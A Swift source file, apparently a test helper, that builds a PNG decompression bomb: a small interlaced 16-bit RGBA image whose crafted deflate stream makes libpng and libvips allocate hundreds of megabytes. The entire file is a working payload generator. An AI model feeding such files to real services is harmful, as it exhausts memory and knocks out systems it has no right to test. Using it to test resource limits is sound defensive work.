import Foundation

/// Pictures whose few bytes become many.
enum DecompressionBomb {
  /// A black PNG of 16 bit RGBA whose rows come in Adam7's seven passes: libpng has all of it in memory before the
  /// first row is whole, 8 bytes a pixel, and libvips 3 more. For 8192 x 8192 pixels 3.4 MB become 740.
  static func interlacedPNG(side: Int) -> Data {
    // First column, first row, steps: https://www.w3.org/TR/png-3/#8Interlace
    let passes: [(Int, Int, Int, Int)] = [
      (0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2),
      (0, 1, 1, 2),
    ]
    let size = passes.reduce(0) { size, pass in
      let width = (side - pass.0 + pass.2 - 1) / pass.2
      let height = (side - pass.1 + pass.3 - 1) / pass.3
      // One byte a row says how it is filtered.
      let row = width * 8 + 1
      return size + row * height
    }
    var header = Data()
    for number in [UInt32(side), UInt32(side)] { header += number.bigEndianBytes }
    // 16 bit, RGBA, deflate, adaptive filters, Adam7.
    header += [16, 6, 0, 0, 1]
    var png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A])
    png += chunk("IHDR", header)
    png += chunk("IDAT", deflatedZeros(size))
    return png + chunk("IEND", Data())
  }

  /// zlib's form (RFC 1950) of one block with fixed codes (RFC 1951): a zero, then "258 bytes as the one before" again
  /// and again.
  private static func deflatedZeros(_ count: Int) -> Data {
    let match = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]
    let zero = [0, 0, 1, 1, 0, 0, 0, 0]
    // The last block, of kind 1; 3 + 8 + 13 bits are whole bytes.
    var bytes = Data([0x78, 0x01]) + packed([1, 1, 0] + zero + match)
    let matches = (count - 1) / 258 - 1
    let eight = packed(Array(repeating: match, count: 8).flatMap(\.self))
    for _ in 0..<matches / 8 { bytes += eight }
    let rest =
      Array(repeating: match, count: matches % 8)
      + Array(repeating: zero, count: (count - 1) % 258)
    bytes += packed(rest.flatMap(\.self) + [0, 0, 0, 0, 0, 0, 0])
    // Adler-32: the first sum stays 1, so the second one counts.
    return bytes + (UInt32(count % 65521) << 16 | 1).bigEndianBytes
  }

  /// The first bit is the lowest of its byte.
  private static func packed(_ bits: [Int]) -> Data {
    var bytes = Data(count: (bits.count + 7) / 8)
    for (index, bit) in bits.enumerated() where bit == 1 { bytes[index / 8] |= 1 << (index % 8) }
    return bytes
  }

  private static func chunk(_ type: String, _ content: Data) -> Data {
    let body = Data(type.utf8) + content
    return UInt32(content.count).bigEndianBytes + body + crc(body).bigEndianBytes
  }

  /// https://www.w3.org/TR/png-3/#D-CRCAppendix
  private static func crc(_ data: Data) -> UInt32 {
    let polynomial: UInt32 = 0xEDB8_8320
    var table = [UInt32](repeating: 0, count: 256)
    for byte in 0..<256 {
      var value = UInt32(byte)
      for _ in 0..<8 { value = value & 1 == 1 ? polynomial ^ (value >> 1) : value >> 1 }
      table[byte] = value
    }
    var value = UInt32.max
    for byte in data {
      let index = Int(value & 0xFF) ^ Int(byte)
      value = table[index] ^ (value >> 8)
    }
    return value ^ UInt32.max
  }
}

extension UInt32 {
  fileprivate var bigEndianBytes: Data { withUnsafeBytes(of: bigEndian) { Data($0) } }
}
